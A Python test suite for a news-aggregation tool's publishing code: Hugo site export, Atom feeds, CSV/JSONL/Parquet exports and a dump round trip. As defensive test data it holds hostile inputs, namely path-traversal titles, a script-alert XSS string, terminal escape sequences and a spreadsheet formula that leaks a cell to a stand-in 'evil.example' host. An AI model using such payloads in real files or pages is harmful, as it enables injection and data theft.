"""Publishing: the Hugo site (built by real `hugo`), Atom feeds (read by real `newsboat`), data exports
and the JSONL round trip, on the seeds store built by the real pipeline."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import threading
import zlib
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import feedparser
import pytest
import yaml
from lxml import html as lxml_html
from typer.testing import CliRunner

from storyline import settings, views
from storyline.cli import app
from storyline.ingest import Pipeline
from storyline.publish import AtomOptions, HugoOptions, PublishError, export_hugo, page_slug, render_atom
from storyline.publish.hugo import md, read_front_matter
from storyline.publish.load import ImportSource, import_jsonl
from storyline.publish.tables import COLUMNS, TableOptions, write_csv, write_jsonl, write_parquet
from storyline.store import Store

from conftest import store_at_version

runner = CliRunner()
SAFE_SLUG = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*$")
FOUNDING_DATES = ["2025-08-12", "2025-12-27", "2026-01-09"]  # the timeline README promises


# -- fixtures -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def seeds_db(tmp_path_factory, seeds) -> Path:
    """A store holding the seeds, built by the real pipeline."""
    path = tmp_path_factory.mktemp("publish") / "seeds.db"
    store = Store(path)
    result = Pipeline(store, settings.load({}, env={})).ingest_paths([seeds])
    assert result.failed == 0, result.errors
    store.close()
    return path


@pytest.fixture()
def store(seeds_db) -> Store:
    s = Store(seeds_db)
    yield s
    s.close()


@pytest.fixture()
def founding(store) -> dict:
    """The founding story (the one with the most events) as the views show it."""
    sid = max(store.live_story_ids(), key=lambda s: len(views.story_dict(store, s)["events"]))
    return views.story_dict(store, sid, detail=True)


HOSTILE_TITLES = [
    "../../etc",
    "../../../../tmp/escape",
    "/etc/passwd",
    "..",
    "",
    "x" * 40 + " " + "very long title " * 40,
    "שלום עולם בחדשות",
    "\u202eevil override txt.exe",
    "🔥🔥🔥 💥",
    "{{< param baseURL >}} and {{% shortcode %}}",
    "<script>alert('owned')</script>",
    "a\\b/c:d*e?f\"g<h>i|j",
    "CON",
]


# Outlet names become Hugo taxonomy terms (folders): these climbed out of the taxonomy ("missing
# taxonomy") or made a file name longer than 255 bytes ("file name too long") and broke the build.
HOSTILE_OUTLETS = {0: "..", 1: ".", 2: "Tide & Time", 3: "../", 4: "/..", 5: "../..", 6: "a/../../b", 7: "中" * 86, 8: "x" * 300}
TOPICS = ["harbour cranes", "orchard frost", "library hours", "ferry timetable", "glacier survey", "chess final",
          "bakery strike", "comet sighting", "rail signal", "choir tour", "wind farm", "museum roof", "river flood"]


def store_of_posts(folder: Path, titles: list[str], outlets: dict[int, str]) -> Path:
    """A store of our own posts, one per title (post i by outlets[i], if any), ingested by the real pipeline."""
    posts = folder / "posts"
    posts.mkdir()
    for i, (title, topic) in enumerate(zip(titles, TOPICS[: len(titles)], strict=True)):
        body = (f"The {topic} report number {i} describes how the {topic} changed this season. "
                f"Local officials said the {topic} would be reviewed again. " * 4)
        front = yaml.safe_dump({"title": title, "date": f"20{10 + i}-0{1 + i % 9}-1{i % 9}", "link": f"https://example.org/{i}",
                                **({"outlet": outlets[i]} if i in outlets else {})})
        (posts / f"post{i}.md").write_text(f"---\n{front}---\n\n{body}\n", encoding="utf-8")
    path = folder / "posts.db"
    store = Store(path)
    result = Pipeline(store, settings.load({"ner": "fast"}, env={})).ingest_paths([posts])
    assert result.failed == 0, result.errors
    store.close()
    return path


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """A store of our own posts whose titles try to escape, collide or break markup."""
    return store_of_posts(tmp_path_factory.mktemp("hostile"), HOSTILE_TITLES, HOSTILE_OUTLETS)


def hugo_build(site: Path) -> subprocess.CompletedProcess:
    """Run the real `hugo` on a site folder (skip when it is not installed)."""
    if shutil.which("hugo") is None:
        pytest.skip("hugo is not installed (scripts/setup installs Debian's hugo when run as root)")
    proc = subprocess.run(["hugo", "--source", str(site), "--destination", str(site / "public")],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc


def unquote(text: str) -> str:
    """Text with typographic quotes made straight (Hugo's typographer curls them)."""
    return text.translate(str.maketrans("‘’“”", "''\"\""))


def all_files(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*")}


# -- Hugo ---------------------------------------------------------------------------------------


def test_hugo_site_builds_and_story_page_lists_the_events_in_order_with_outlets(store, founding, tmp_path):
    site = tmp_path / "site"
    report = export_hugo(store, site, HugoOptions())
    assert report.pages["story"] >= 1 and report.pages["event"] >= 3
    hugo_build(site)

    slug = read_front_matter((site / f"content/stories/story-{founding['id']}.md").read_text())["slug"]
    page = lxml_html.parse(str(site / "public/stories" / slug / "index.html")).getroot()
    headings = page.xpath("//main//h2")
    shown = []
    for h in headings:
        date = h.text_content().split("·")[0].strip()
        outlets_p = h.getnext()
        assert outlets_p.text_content().startswith("Outlets:")
        outlets = [o.strip() for o in outlets_p.text_content().removeprefix("Outlets:").split(",")]
        shown.append((date, h.xpath(".//a")[0].text_content(), outlets))
    assert [d for d, _, _ in shown] == FOUNDING_DATES
    expected = [(e["date"], unquote(e["title"]), e["outlets"]) for e in founding["events"]]
    assert [(d, unquote(t), o) for d, t, o in shown] == expected
    assert {"Reuters", "NK News", "WION"} <= set(shown[2][2])
    # the event links resolve to built pages
    for link in page.xpath("//main//h2/a/@href"):
        assert (site / "public/stories" / slug / link / "index.html").resolve().is_file()


def test_a_story_pages_summary_is_its_latest_dated_event_not_an_undated_one(seeds_db, tmp_path):
    from datetime import datetime, timezone

    from storyline.models import Document

    path = tmp_path / "undated.db"
    shutil.copy(seeds_db, path)
    store = Store(path)
    story = max(store.live_story_ids(), key=lambda s: len(views.story_dict(store, s)["events"]))
    undated = store.create_group("events", None, "Harbour notes")
    store.update_event(undated, story_id=story, summary="An undated aside about the harbour.")
    note = Document(source="t", kind="text", key="undated-note", title="Harbour notes", text="Boats came and went.",
                    published=datetime(2026, 1, 20, tzinfo=timezone.utc))
    store.insert_article(note, None, event_id=undated)
    store.touch_event(undated)
    events = views.story_dict(store, story, detail=True)["events"]
    assert events[-1]["id"] == undated and events[-1]["date"] is None  # undated events come last
    export_hugo(store, tmp_path / "site", HugoOptions())
    front = read_front_matter((tmp_path / f"site/content/stories/story-{story}.md").read_text(encoding="utf-8"))
    latest = [e for e in events if e["date"]][-1]
    assert front["summary"] == " ".join(latest["summary"].split()) and front["event_date"] == latest["date"]
    store.close()


def test_front_matter_has_the_seed_fields_and_real_tags(store, seeds, tmp_path):
    seed_keys = list(read_front_matter(next(seeds.glob("000_*")).read_text(encoding="utf-8")))
    site = tmp_path / "site"
    export_hugo(store, site, HugoOptions())
    for page in (site / "content").rglob("*-*.md"):
        front = read_front_matter(page.read_text(encoding="utf-8"))
        assert list(front)[: len(seed_keys)] == seed_keys, page
        assert front["draft"] is False and SAFE_SLUG.match(front["slug"])
        assert {"page_kind", "story_id", "outlets", "event_date"} <= set(front)
        assert not {"kind", "type", "layout", "url", "path", "lang", "keywords", "weight"} & set(front)  # Hugo reserves these
    # tags are the article's entities and keywords, not the seed's title words
    aid = store.db.execute("SELECT id FROM articles WHERE source LIKE '%000_%' AND kind = 'markdown'").fetchone()[0]
    front = read_front_matter((site / f"content/articles/article-{aid}.md").read_text(encoding="utf-8"))
    row = store.article(aid)
    known = {e["name"] for e in store.article_entities([aid])} | set(json.loads(row["keywords"]))
    assert front["tags"] and set(front["tags"]) <= known
    assert "vanguard" not in front["tags"] and "unconditionally" not in front["tags"]
    event = read_front_matter((site / f"content/events/event-{row['event_id']}.md").read_text(encoding="utf-8"))
    assert event["event_id"] == row["event_id"] and event["outlets"] and event["categories"] == event["outlets"]


def test_reexport_updates_pages_in_place_and_keeps_slugs(seeds_db, tmp_path):
    copy = tmp_path / "copy.db"
    shutil.copy(seeds_db, copy)
    store = Store(copy)
    site = tmp_path / "site"
    export_hugo(store, site, HugoOptions())
    files = all_files(site)
    again = export_hugo(store, site, HugoOptions())
    assert again.written == 0 and again.removed == 0 and all_files(site) == files

    sid = next(store.live_story_ids())
    page = site / f"content/stories/story-{sid}.md"
    before = read_front_matter(page.read_text(encoding="utf-8"))
    store.update_story(sid, "A completely different title")
    (site / "content/events/event-9999.md").write_text("---\ntitle: gone\n---\n")  # as if its event was merged away
    (site / "content/events/my-notes.md").write_text("---\ntitle: mine\n---\n")  # the user's own page
    report = export_hugo(store, site, HugoOptions())
    after = read_front_matter(page.read_text(encoding="utf-8"))
    assert after["title"] == "A completely different title" and after["slug"] == before["slug"]
    assert report.removed == 1 and not (site / "content/events/event-9999.md").exists()
    assert (site / "content/events/my-notes.md").exists()
    assert all_files(site) == files | {site / "content/events/my-notes.md"}
    store.close()


def test_slugs_of_hostile_titles_are_safe_unique_and_stable():
    slugs = [page_slug("article", i, t) for i, t in enumerate(HOSTILE_TITLES)]
    assert all(SAFE_SLUG.match(s) and len(s) <= 80 for s in slugs), slugs
    assert len(set(slugs)) == len(slugs)
    assert slugs == [page_slug("article", i, t) for i, t in enumerate(HOSTILE_TITLES)]
    assert page_slug("article", 1, "../../etc") == "etc-1"
    assert page_slug("story", 7, "") == "story-7" and page_slug("event", 8, "שלום 🔥") == "event-8"
    # A title mostly in another script leaves numbers that read like a date: it has no words either.
    assert page_slug("story", 9, "港の新しい橋 2024年3月5日に開通") == "story-9"
    assert page_slug("story", 10, "SNSで港の写真 24年02月06日") == "story-10"
    assert page_slug("story", 11, "Café au lait: São Paulo’s 2024") == "cafe-au-lait-sao-paulos-2024-11"
    assert page_slug("story", 12, "2024") == "2024-12"  # nothing but digits: they are the title
    # the id is the last part, so equal titles and titles ending in numbers never collide
    assert len({page_slug("event", i, t) for i, t in [(1, "a 11"), (11, "a 1"), (111, "a"), (2, "a 1 1")]}) == 4


def test_markdown_escaping_keeps_titles_literal():
    assert md("{{< param x >}}") == r"\{\{\< param x \>\}\}"
    assert md("# not a heading") == r"\# not a heading" and md("1. not a list") == r"1\. not a list"
    assert md("<b>bold</b> [x](y)") == r"\<b\>bold\</b\> \[x\]\(y\)"


def test_hostile_titles_never_write_outside_the_site_and_build(hostile_db, tmp_path):
    store = Store(hostile_db)
    outer = tmp_path / "outer"
    site = outer / "site"
    outer.mkdir()
    (outer / "sentinel.txt").write_text("untouched")
    report = export_hugo(store, site, HugoOptions())
    assert report.pages["article"] == len(HOSTILE_TITLES)
    assert all_files(outer) - all_files(site) == {outer / "sentinel.txt", site}
    assert (outer / "sentinel.txt").read_text() == "untouched"
    for kind in ("articles", "events", "stories"):
        slugs = [read_front_matter(p.read_text(encoding="utf-8"))["slug"] for p in (site / "content" / kind).glob("*-*.md")]
        assert slugs and all(SAFE_SLUG.match(s) and len(s) <= 84 for s in slugs)
        assert len(set(slugs)) == len(slugs)
    titles = {read_front_matter(p.read_text(encoding="utf-8"))["title"] for p in (site / "content/articles").glob("*-*.md")}
    assert {"../../etc", "<script>alert('owned')</script>", "{{< param baseURL >}} and {{% shortcode %}}"} <= titles
    assert "(untitled)" in titles and "evil override txt.exe" in titles  # the bidi override is dropped
    categories = {c for p in (site / "content").rglob("*-*.md") for c in read_front_matter(p.read_text(encoding="utf-8"))["categories"]}
    assert "Tide & Time" in categories and not categories & {".", ".."}  # ".." as a term broke Hugo's build
    assert not {"../", "/..", "../..", "a/../../b"} & categories
    assert {"中" * 50, "x" * 150} <= categories  # cut to 150 bytes of UTF-8, at a character
    outlets = {o for p in (site / "content/articles").glob("*-*.md") for o in read_front_matter(p.read_text(encoding="utf-8"))["outlets"]}
    assert {"a/../../b", "中" * 86, "x" * 300} <= outlets  # the pages still name them in full
    hugo_build(site)
    assert (site / "public/categories" / ("中" * 50) / "index.html").is_file()
    built = (site / "public").resolve()
    assert all(p.resolve().is_relative_to(built) for p in built.rglob("*"))
    pages = "".join(p.read_text(encoding="utf-8") for p in (built / "articles").rglob("index.html"))
    assert "<script>alert" not in pages and "&lt;script&gt;alert" in pages
    assert "{{&lt; param baseURL" in pages  # the shortcode title shows as text, not run
    store.close()


# Strings Hugo's YAML reader takes for booleans, numbers or null when they are left unquoted.
LOOKALIKES = ["1e6", "Y", "n", "N", "0o17", "3e-2", "yes", "off", "null", "~"]
OUTLET_LOOKALIKES = ["~", "null", "off", "yes", "3e-2", "0o17", "NO", "n", "Y", "1e6"]  # outlet names ignore case


def test_titles_and_outlets_that_look_like_numbers_or_booleans_render_verbatim(tmp_path):
    store = Store(store_of_posts(tmp_path, LOOKALIKES, dict(enumerate(OUTLET_LOOKALIKES))))
    site = tmp_path / "site"
    export_hugo(store, site, HugoOptions())
    store.close()
    hugo_build(site)
    shown = {}
    for page in (site / "content/articles").glob("article-*.md"):
        front = read_front_matter(page.read_text(encoding="utf-8"))
        built = lxml_html.parse(str(site / "public/articles" / front["slug"] / "index.html")).getroot()
        shown[built.xpath("string(//main//h1)")] = built.xpath("string(//main//span[@class='outlets'])")
    assert shown == dict(zip(LOOKALIKES, OUTLET_LOOKALIKES))  # "1e6" showed as 1000000, "Y" as true


def test_a_link_inside_the_site_cannot_redirect_writes_outside(store, tmp_path):
    site = tmp_path / "site"
    export_hugo(store, site, HugoOptions())
    victim = tmp_path / "victim.md"
    victim.write_text("keep me")
    page = next((site / "content/articles").glob("article-*.md"))
    page.unlink()
    page.symlink_to(victim)
    with pytest.raises(PublishError):
        export_hugo(store, site, HugoOptions())
    assert victim.read_text() == "keep me"


# -- Atom ---------------------------------------------------------------------------------------


def atom_id(store: Store, name: str) -> str:
    """The Atom id a store gives `name` (event/N, story/N, stories): a tag URI naming the store's identity."""
    identity = store.db.execute("SELECT value FROM state WHERE key = 'store_id'").fetchone()
    assert identity and re.fullmatch(r"[0-9a-f]{32}", identity[0])
    return f"tag:storyline,2025:{identity[0]}/{name}"


def test_atom_feed_parses_cleanly_with_stable_ids_summaries_and_sources(store, founding):
    first = render_atom(store, AtomOptions())
    feed = feedparser.parse(first)
    assert feed.bozo == 0, feed.get("bozo_exception")
    events = {e["id"]: e for s in views.stories_list(store, detail=True) for e in s["events"]}
    assert len(feed.entries) == len(events)
    for entry in feed.entries:
        eid = int(entry.id.rsplit("/", 1)[1])
        assert entry.id == atom_id(store, f"event/{eid}")
        assert entry.updated_parsed is not None
        assert entry.summary == " ".join(events[eid]["summary"].split())
        for article in events[eid]["articles"]:
            if article["outlet"]:
                assert article["outlet"] in entry.content[0].value
    assert feedparser.parse(render_atom(store, AtomOptions())).entries[0].id == feed.entries[0].id

    one = feedparser.parse(render_atom(store, AtomOptions(story_id=founding["id"], limit=-1)))
    assert one.bozo == 0 and one.feed.title == founding["title"]
    assert sorted(e.id for e in one.entries) == sorted(atom_id(store, f"event/{e['id']}") for e in founding["events"])
    with pytest.raises(PublishError):
        render_atom(store, AtomOptions(story_id=999999))


def feed_ids(store: Store) -> set[str]:
    """The ids of the all-stories feed and of every entry in it."""
    root = feedparser.parse(render_atom(store, AtomOptions(limit=-1)))
    return {root.feed.id} | {e.id for e in root.entries}


def test_atom_ids_name_the_store_so_two_stores_never_share_one(seeds_db, tmp_path):
    source = Store(seeds_db)
    ids = feed_ids(source)
    assert f"tag:storyline,2025:{source.get_state('store_id')}/stories" in ids
    buf = io.StringIO()
    write_jsonl(source, buf, "all")
    source.close()
    lines = buf.getvalue().splitlines()
    # An imported dump is the same store (its identity is in the dump): readers keep their entries.
    copy = Store(tmp_path / "copy.db")
    import_jsonl(copy, [ImportSource("dump", lines)])
    assert feed_ids(copy) == ids
    # The same events in another store (a dump without the identity): not one id in common.
    other = Store(tmp_path / "other.db")
    import_jsonl(other, [ImportSource("dump", [x for x in lines if json.loads(x).get("table") != "state"])])
    assert len(feed_ids(other)) == len(ids) and not feed_ids(other) & ids
    empty_a, empty_b = Store(tmp_path / "a.db"), Store(tmp_path / "b.db")
    assert not feed_ids(empty_a) & feed_ids(empty_b)
    # A store from before identities gets one on its first open, and keeps it.
    store_at_version(tmp_path / "old.db", 10).close()
    old = Store(tmp_path / "old.db")
    first = feed_ids(old)
    old.close()
    old = Store(tmp_path / "old.db")
    assert feed_ids(old) == first and not first & feed_ids(empty_a)
    for s in (copy, other, empty_a, empty_b, old):
        s.close()


def test_an_empty_feed_is_dated_by_the_store_not_by_the_request(tmp_path):
    store_at_version(tmp_path / "old.db", 10).close()  # its migrations ran on 2026-01-01
    store = Store(tmp_path / "old.db")
    feed = feedparser.parse(render_atom(store, AtomOptions()))
    assert not feed.entries and feed.feed.updated == "2026-01-01T00:00:00Z"
    sid = store.create_group("stories", None, "Quiet")  # a story without events, as one merged away is
    store.db.execute("UPDATE stories SET updated_at = '2025-03-04T05:06:07+00:00' WHERE id = ?", (sid,))
    one = feedparser.parse(render_atom(store, AtomOptions(story_id=sid)))
    assert not one.entries and one.feed.updated == "2025-03-04T05:06:07Z"
    store.close()


def test_renaming_a_story_updates_its_feed_and_its_entries(seeds_db, tmp_path):
    from storyline.corrections import Corrector

    path = tmp_path / "rename.db"
    shutil.copy(seeds_db, path)
    store = Store(path)
    sid = max(store.live_story_ids(), key=lambda s: len(store.story_event_ids(s)))
    corrector = Corrector(store, settings.load({}, env={}))
    corrector.split_story(sid, store.story_event_ids(sid)[:1])  # a second story, whose entries must not change
    store.close()
    db = sqlite3.connect(path)
    old = "2025-06-01T00:00:00+00:00"  # every change long before the rename
    db.execute("UPDATE events SET updated_at = ?", (old,))
    db.execute("UPDATE stories SET updated_at = ?", (old,))
    db.commit()
    db.close()
    store = Store(path)
    before = feedparser.parse(render_atom(store, AtomOptions(story_id=sid, limit=-1)))
    assert before.feed.updated == "2025-06-01T00:00:00Z"
    Corrector(store, corrector.settings).rename_story(sid, "Harbour founding, corrected")
    stamp = store.db.execute("SELECT created_at FROM corrections WHERE action = 'rename_story'").fetchone()[0]
    renamed = stamp.replace("+00:00", "Z")
    after = feedparser.parse(render_atom(store, AtomOptions(story_id=sid, limit=-1)))
    assert after.feed.title == "Harbour founding, corrected" and after.feed.updated == renamed
    assert after.entries and {e.updated for e in after.entries} == {renamed}
    assert all("story: Harbour founding, corrected" in e.content[0].value for e in after.entries)
    mine = {e.id for e in after.entries}
    every = feedparser.parse(render_atom(store, AtomOptions(limit=-1)))
    assert every.feed.updated == renamed
    assert {e.id: e.updated for e in every.entries if e.id in mine} == {i: renamed for i in mine}
    others = {e.updated for e in every.entries if e.id not in mine}
    assert others == {"2025-06-01T00:00:00Z"}  # the other story's entries did not change
    store.close()


def test_hostile_titles_give_a_well_formed_feed(hostile_db):
    store = Store(hostile_db)
    feed = feedparser.parse(render_atom(store, AtomOptions(limit=-1)))
    assert feed.bozo == 0, feed.get("bozo_exception")
    assert len(feed.entries) == len(list(store.iter_live_events()))
    store.close()


def test_feed_links_are_percent_encoded_as_the_sites_are(seeds_db, tmp_path):
    path = tmp_path / "spaces.db"
    shutil.copy(seeds_db, path)
    db = sqlite3.connect(path)
    aid, eid = db.execute("SELECT a.id, a.event_id FROM articles a JOIN events e ON e.id = a.event_id "
                          "WHERE a.merged_into IS NULL AND e.merged_into IS NULL ORDER BY a.id").fetchone()
    db.execute("UPDATE articles SET url = ? WHERE id = ?", ('https://example.org/harbour news/a"b?q=x y', aid))
    db.commit()
    db.close()
    store = Store(path)
    feed = feedparser.parse(render_atom(store, AtomOptions(limit=-1)))
    export_hugo(store, tmp_path / "site", HugoOptions())
    event_id = atom_id(store, f"event/{eid}")
    store.close()
    encoded = "https://example.org/harbour%20news/a%22b?q=x%20y"
    assert f"[original]({encoded})" in (tmp_path / f"site/content/articles/article-{aid}.md").read_text(encoding="utf-8")
    entry = next(e for e in feed.entries if e.id == event_id)
    assert encoded in [link.href for link in entry.links]
    assert f'href="{encoded}"' in entry.content[0].value
    hrefs = [link.href for e in feed.entries for link in e.get("links", [])]
    hrefs += re.findall(r'href="([^"]*)"', " ".join(e.content[0].value for e in feed.entries))
    assert hrefs and not [h for h in hrefs if " " in h]


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *args) -> None:  # keep test output clean
        pass


def test_newsboat_reads_the_feed_from_a_loopback_server(store, founding, tmp_path):
    if shutil.which("newsboat") is None:
        pytest.skip("newsboat is not installed (scripts/setup installs Debian's newsboat when run as root)")
    (tmp_path / "www").mkdir()
    (tmp_path / "www/story.xml").write_bytes(render_atom(store, AtomOptions(story_id=founding["id"], limit=-1)))
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(tmp_path / "www")))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/story.xml"
        (tmp_path / "urls").write_text(url + "\n")
        (tmp_path / "config").write_text("")
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path), "LANG": "C.UTF-8"}
        proc = subprocess.run(
            ["newsboat", "-u", str(tmp_path / "urls"), "-c", str(tmp_path / "cache.db"), "-C", str(tmp_path / "config"),
             "-x", "reload", "print-unread"],
            capture_output=True, text=True, timeout=60, env=env,
        )
    finally:
        server.shutdown()
        server.server_close()
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.strip().startswith(f"{len(founding['events'])} unread")
    with sqlite3.connect(tmp_path / "cache.db") as cache:
        items = dict(cache.execute("SELECT guid, title FROM rss_item WHERE feedurl = ?", (url,)).fetchall())
    assert set(items) == {atom_id(store, f"event/{e['id']}") for e in founding["events"]}
    assert any(FOUNDING_DATES[-1] in title for title in items.values())


# -- data exports -------------------------------------------------------------------------------


def jsonl(store: Store, what: str) -> list[dict]:
    buf = io.StringIO()
    n = write_jsonl(store, buf, what)
    rows = [json.loads(line) for line in buf.getvalue().splitlines()]
    assert len(rows) == n
    return rows


def test_jsonl_records_are_complete_and_join_across_files(store):
    articles, events, stories = jsonl(store, "articles"), jsonl(store, "events"), jsonl(store, "stories")
    outlets = {o["id"]: o["name"] for o in jsonl(store, "outlets")}
    entities = {e["id"] for e in jsonl(store, "entities")}
    assert len(articles) == store.counts()["articles"]
    event_ids, story_ids = {e["id"] for e in events}, {s["id"] for s in stories}
    for a in articles:
        assert a["type"] == "article" and a["text"] is not None and "key" in a
        assert a["event_id"] is None or a["event_id"] in event_ids
        assert a["outlet_id"] is None or outlets[a["outlet_id"]] == a["outlet"]
        assert {e["id"] for e in a["entities"]} <= entities
    for e in events:
        assert e["story_id"] in story_ids
        assert set(e["article_ids"]) <= {a["id"] for a in articles if a["event_id"] == e["id"]}
    quoted = [a for a in articles if a["quotes"]]
    assert quoted and all({"id", "text", "speaker"} <= set(q) for a in quoted for q in a["quotes"])


def test_csv_opens_in_the_csv_module_with_the_documented_columns(store):
    for what in COLUMNS:
        buf = io.StringIO()
        n = write_csv(store, buf, what)
        rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
        assert len(rows) == n and n > 0
        assert list(rows[0]) == [name for name, _ in COLUMNS[what]]
    buf = io.StringIO()
    write_csv(store, buf, "articles")
    row = next(r for r in csv.DictReader(io.StringIO(buf.getvalue())) if r["kind"] == "text")
    assert isinstance(json.loads(row["keywords"]), list) and row["title_inferred"] in ("true", "false")


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_text(seeds_db, tmp_path):
    db = tmp_path / "formula.db"
    shutil.copy(seeds_db, db)
    store = Store(db)
    aid = store.db.execute("SELECT MIN(id) FROM articles").fetchone()[0]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    store.update_article(aid, title=formula)
    buf = io.StringIO()
    write_csv(store, buf, "articles")
    row = next(r for r in csv.DictReader(io.StringIO(buf.getvalue())) if r["id"] == str(aid))
    assert row["title"] == "'" + formula and not any(v.startswith(("=", "+", "@")) for v in row.values())
    lines = io.StringIO()
    write_jsonl(store, lines, "articles")
    assert any(json.loads(line)["title"] == formula for line in lines.getvalue().splitlines())  # JSONL keeps it exactly
    store.close()


def test_parquet_opens_with_pyarrow_with_the_documented_types(store, tmp_path):
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    expected = {
        "id": pa.int64(), "title": pa.string(), "title_inferred": pa.bool_(),
        "published": pa.timestamp("us", tz="UTC"), "event_day": pa.date32(), "tags": pa.list_(pa.string()),
        "event_id": pa.int64(), "story_id": pa.int64(),
        "entities": pa.list_(pa.struct([("id", pa.int64()), ("name", pa.string()), ("kind", pa.string()), ("count", pa.int64())])),
        "quotes": pa.list_(pa.struct([("id", pa.int64()), ("text", pa.string()), ("speaker", pa.string())])),
    }
    path = tmp_path / "articles.parquet"
    n = write_parquet(store, path, TableOptions(fmt="parquet", what="articles", batch_rows=2))
    table = pq.read_table(path)
    assert table.num_rows == n == store.counts()["articles"]
    assert pq.ParquetFile(path).metadata.num_row_groups == (n + 1) // 2  # written in bounded batches
    for name, kind in expected.items():
        assert table.schema.field(name).type == kind, name
    assert table.column_names == [name for name, _ in COLUMNS["articles"]]
    events_path = tmp_path / "events.parquet"
    write_parquet(store, events_path, TableOptions(fmt="parquet", what="events"))
    events = pq.read_table(events_path)
    assert events.schema.field("date").type == pa.date32()
    assert sorted(str(d) for d in events.column("date").to_pylist() if d)[:3] == FOUNDING_DATES


# -- JSONL round trip ---------------------------------------------------------------------------


def table_digest(path: Path) -> dict[str, tuple[int, str]]:
    """Row count and a content hash of every table, read straight from SQLite (not via our code)."""
    db = sqlite3.connect(path)
    out = {}
    tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' "
                                       "AND name NOT LIKE 'articles_fts%' AND name != 'schema_migrations'")]
    for table in tables:
        rows = db.execute(f'SELECT * FROM "{table}"').fetchall()
        if table == "raw_inputs":  # compressed bytes may differ between zlib builds; the content may not
            rows = [r[:4] + (zlib.decompress(r[4]),) + r[5:] for r in rows]
        digest = hashlib.sha256(repr(sorted(rows, key=repr)).encode()).hexdigest()
        out[table] = (len(rows), digest)
    db.close()
    return out


def test_a_dump_of_a_sharded_search_index_imports_into_a_searchable_store(tmp_path):
    from datetime import datetime, timezone

    from storyline.models import Document
    from storyline.search import SearchQuery, search

    source = Store(tmp_path / "sharded.db")
    source.SEARCH_SHARD_ARTICLES, source.SEARCH_SHARD_WARMUP = 3, 1
    for i in range(10):
        when = datetime(2024, 5, i + 1, tzinfo=timezone.utc)
        source.insert_article(Document(source="t", kind="text", key=f"m{i}", title=f"Mill report {i}",
                                       text=f"The old mill ground corn on day {i}.", published=when), None)
    assert len(source.search_shards()) > 2
    dump = tmp_path / "dump.jsonl"
    with dump.open("w", encoding="utf-8") as fh:
        write_jsonl(source, fh, "all")
    assert '"search_shards"' not in dump.read_text(encoding="utf-8")  # the layout is the store's own
    assert "search_pending" not in source.extra_tables()  # nor is what waits for the index
    target = Store(tmp_path / "copy.db")
    target.SEARCH_SHARD_ARTICLES, target.SEARCH_SHARD_WARMUP = 3, 1
    with dump.open(encoding="utf-8") as fh:
        import_jsonl(target, [ImportSource(str(dump), fh)])
    assert search(target, SearchQuery("mill", limit=50))["total"] == 10
    # The import cuts the index as the source's ingest did, rather than putting it all in one shard.
    assert target.search_shards() == source.search_shards() and not target.search_index_oversized()
    # Records in another order (the newest article first) fill one shard with the rest; the import cuts it again.
    backwards = Store(tmp_path / "backwards.db")
    backwards.SEARCH_SHARD_ARTICLES, backwards.SEARCH_SHARD_WARMUP = 3, 1
    lines = dump.read_text(encoding="utf-8").splitlines(keepends=True)
    import_jsonl(backwards, [ImportSource("reversed", iter(lines[::-1]))])
    assert backwards.search_shards() == source.search_shards()
    assert search(backwards, SearchQuery("mill", limit=50))["total"] == 10
    target.insert_article(Document(source="t", kind="text", key="m10", title="Mill report 10", text="The mill."), None)
    assert search(target, SearchQuery("mill", limit=50))["total"] == 11


def test_jsonl_round_trip_reproduces_the_store(seeds_db, tmp_path):
    source = Store(seeds_db)
    dump = tmp_path / "dump.jsonl"
    with dump.open("w", encoding="utf-8") as fh:
        write_jsonl(source, fh, "all")
    target_path = tmp_path / "copy.db"
    target = Store(target_path)
    with dump.open(encoding="utf-8") as fh:
        counts = import_jsonl(target, [ImportSource(str(dump), fh)])
    assert counts["article"] == source.counts()["articles"]
    assert target.counts() == source.counts()
    assert views.stories_list(target, detail=True) == views.stories_list(source, detail=True)
    assert target.db.execute("SELECT COUNT(*) FROM articles_fts WHERE articles_fts MATCH 'Putin'").fetchone()[0] > 0
    again = io.StringIO()
    write_jsonl(target, again, "all")
    assert again.getvalue() == dump.read_text(encoding="utf-8")
    source.close()
    target.close()
    original, copied = table_digest(seeds_db), table_digest(target_path)
    assert original["articles"][0] > 0 and original["minhash_bands"][0] > 0
    assert copied == original


def test_international_host_names_are_linked_in_their_ascii_form():
    from storyline.publish.common import web_url

    assert web_url("https://bücher.de/ä?x=1 2") == "https://xn--bcher-kva.de/%C3%A4?x=1%202"
    assert web_url("https://user@bücher.de:8080/x") == "https://user@xn--bcher-kva.de:8080/x"
    assert web_url("https://example.org/a b") == "https://example.org/a%20b" and web_url("ftp://x.example/") is None


def test_an_imported_dump_loses_the_control_characters_ingest_would_have_stripped(seeds_db, tmp_path):
    source = Store(seeds_db)
    buf = io.StringIO()
    write_jsonl(source, buf, "all")
    source.close()
    lines = buf.getvalue().splitlines()
    i, rec = next((i, json.loads(line)) for i, line in enumerate(lines) if '"type":"article"' in line)
    rec["title"] = "Harbour \x1b]0;pwned\x07\x1b[31mvote\u202etxt"
    lines[i] = json.dumps(rec)
    target = Store(tmp_path / "imported.db")
    import_jsonl(target, [ImportSource("dump", lines)])
    assert target.article(rec["id"])["title"] == "Harbour ]0;pwned[31mvotetxt"
    target.close()


def test_import_refuses_a_non_empty_store_and_stores_nothing_from_a_bad_file(seeds_db, tmp_path):
    source = Store(seeds_db)
    buf = io.StringIO()
    write_jsonl(source, buf, "all")
